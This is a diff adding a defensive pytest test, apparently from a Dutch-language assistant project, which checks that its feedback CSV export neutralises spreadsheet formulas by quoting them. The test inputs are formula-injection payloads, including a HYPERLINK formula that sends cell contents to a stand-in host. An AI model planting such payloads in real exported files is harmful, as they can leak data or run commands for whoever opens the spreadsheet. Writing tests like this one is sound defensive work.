@@ -124,3 +124,22 @@ def _empty(folder: Path) -> Path:
     path = folder / "empty.toml"
     path.write_text("", encoding="utf-8")
     return path
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://127.0.0.9/x?"&A1;"klik")', "+32 cmd", "-2+3", "@SUM(A1:A9)",
+                                   "\t=1+1", "\r=1+1"])
+def test_livc_feedback_csv_never_writes_a_live_formula(tmp_path, typed):
+    import dataclasses
+
+    store = FeedbackStore(tmp_path / "feedback.sqlite")
+    store.add(dataclasses.replace(from_answer(answer(), -1, log_questions=True, reason="bron klopt niet"),
+                                  question=typed, answer=typed))
+    env = cli_env(LIVC_INDEX_DIR=str(tmp_path / "index"), LIVC_CONFIG=str(_empty(tmp_path)))
+    target = tmp_path / "export.csv"
+    exported = subprocess.run([PYTHON, "-m", "assistant.cli", "feedback", "--csv", str(target)],
+                              capture_output=True, text=True, env=env, cwd=ROOT, timeout=120)
+    assert exported.returncode == 0, exported.stderr
+    row = next(csv.DictReader(target.open(encoding="utf-8", newline="")))
+    for column in ("question", "answer"):
+        assert row[column] == "'" + typed  # shown as the text it is, never run
+    assert row["reason"] == "bron klopt niet" and row["citations"].startswith("[")
